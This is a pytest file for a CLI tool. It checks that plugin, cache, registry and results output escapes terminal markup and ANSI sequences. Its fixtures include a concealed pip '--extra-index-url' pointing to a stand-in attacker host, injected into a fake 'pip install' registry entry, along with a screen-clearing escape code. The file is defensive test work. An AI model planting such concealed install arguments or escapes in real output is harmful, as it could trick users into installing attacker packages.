"""Terminal markup injection: outside data is printed as plain text by every command that prints
index, asset, plugin or result fields (issue 10, item 6)."""

from __future__ import annotations

import hashlib
import json

import pytest
from click.testing import CliRunner

import neuroalign
from neuroalign import hookimpl
from neuroalign.app.cli import cli, plain
from neuroalign.plugins.lookup import use_plugin_manager
from neuroalign.plugins.manager import PluginManager
from neuroalign.scoring.results import ResultsDatabase
from neuroalign.scores import Provenance, Score
from neuroalign.specs import AssetSpec, BenchmarkSpec, DatasetSpec, ModelSpec
from neuroalign.store.cache import write_meta
from neuroalign.store.index import INDEX_FORMAT

#: hides the rest of the line in a terminal if interpreted as markup
CONCEAL = "[conceal]--extra-index-url http://evil.example/simple[/conceal]"
#: crashes rich's markup parser if interpreted
CLOSER = "[/x]"
#: an ANSI escape sequence (clear screen)
ESCAPE = "\x1b[2J"
HOSTILE = f"{CONCEAL} {CLOSER} {ESCAPE}"


def _shown(output: str) -> None:
    """Every hostile piece is in ``output`` literally, the escape only in escaped form."""
    flat = " ".join(output.split())
    assert "--extra-index-url http://evil.example/simple" in flat, output
    assert "[conceal]" in flat and CLOSER in flat, output
    assert "\x1b" not in output and "\\x1b[2J" in flat, output


class HostilePlugin:
    @hookimpl
    def register_datasets(self, register):
        register(DatasetSpec(id="Evil.data", factory="m:f", description=HOSTILE, assets=(
            AssetSpec(name=HOSTILE, url=f"file://{self.asset}", format="other"),)))

    @hookimpl
    def register_benchmarks(self, register):
        register(BenchmarkSpec(id="Evil.IT-x", factory="m:f", description=HOSTILE,
                               dataset="Evil.data", region="IT"))


class ExplodingPlugin:
    @hookimpl
    def register_models(self, register):
        raise RuntimeError(HOSTILE)


@pytest.fixture
def env(tmp_path, monkeypatch):
    monkeypatch.setenv("NEUROALIGN_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("COLUMNS", "1000")  # no folding: the assertions read whole lines
    for name in ("NEUROALIGN_RESULTS", "NEUROALIGN_STORE", "NEUROALIGN_DEBUG"):
        monkeypatch.delenv(name, raising=False)
    asset = tmp_path / "evil[conceal]dir[bold]" / "data.bin"
    asset.parent.mkdir()
    asset.write_bytes(b"bytes")
    plugin = HostilePlugin()
    plugin.asset = asset
    manager = PluginManager(autoload=False)
    manager.register(plugin, name="evil", distribution="neuroalign-evil", version="1")
    manager.register(ExplodingPlugin(), name="boom", distribution="neuroalign-boom", version="1")
    old = use_plugin_manager(manager)
    yield tmp_path
    use_plugin_manager(old)


def run(*args):
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def test_plain_escapes_control_characters_and_keeps_text():
    assert plain("a\x1b[31mb\x07c\u202ed") == "a\\x1b[31mb\\x07c\\u202ed"
    assert plain(CONCEAL) == CONCEAL


def test_registry_search_shows_a_concealed_pip_command(env):
    index = env / "index.json"
    index.write_text(json.dumps({"format": INDEX_FORMAT, "plugins": [{
        "distribution": "neuroalign-evil2", "version": "1",
        "pip": f"pip install neuroalign-evil2 {HOSTILE}", "description": HOSTILE}],
        "benchmarks": [{"id": "Evil2.IT-x", "version": 1, "distribution": "neuroalign-evil2",
                        "region": CLOSER, "description": HOSTILE}]}))
    _shown(run("registry", "search", "evil2", "--index", str(index)))


def test_cache_ls_and_clear_show_hostile_sidecars(env):
    item = env / "home" / "assets" / "x" / "data.bin"
    item.parent.mkdir(parents=True)
    item.write_bytes(b"x")
    write_meta(item, kind="assets", key=HOSTILE, description=HOSTILE)
    _shown(run("cache", "ls"))
    assert "removed 1" in run("cache", "clear", "--yes")


def test_fetch_list_info_and_plugins_print_plain_text(env):
    fetched = run("fetch", "Evil.data")
    _shown(fetched)
    assert "evil[conceal]dir[bold]/data.bin" in fetched
    assert HOSTILE in json.loads(run("list", "datasets", "--json"))[0]["description"]
    listed = run("list", "benchmarks")
    assert "Evil.IT-x" in listed
    _shown(run("info", "Evil.data"))
    _shown(run("info", "Evil.IT-x"))
    _shown(run("plugins"))


def test_results_report_and_score_print_plain_text(env, monkeypatch):
    results = ResultsDatabase()
    results.put(Score(value=0.5, layer=HOSTILE, provenance=Provenance(
        model_id=f"evil:{CONCEAL}", benchmark_id="Evil.IT-x", benchmark_version=1,
        dataset_sha256={HOSTILE: hashlib.sha256(b"x").hexdigest()})))
    results.close()
    shown = run("results")
    assert "evil:[conceal]--extra-index-url" in " ".join(shown.split())
    report = " ".join(run("report").split())
    assert "evil:[conceal]--extra-index-url" in report and CLOSER in report  # model and layer

    from neuroalign.scoring import engine

    monkeypatch.setattr(engine, "score", lambda *a, **k: Score(
        value=0.5, raw=0.4, ceiling=0.8, layer=HOSTILE, layers={HOSTILE: 0.5}))

    class _Model:  # score validates every id first: the model must exist
        @hookimpl
        def register_models(self, register):
            register(ModelSpec(id="test:model", factory="m:f"))

    neuroalign.get_plugin_manager().register(_Model(), name="model",
                                             distribution="neuroalign-test-model", version="1")
    _shown(run("score", "test:model", "Evil.IT-x"))
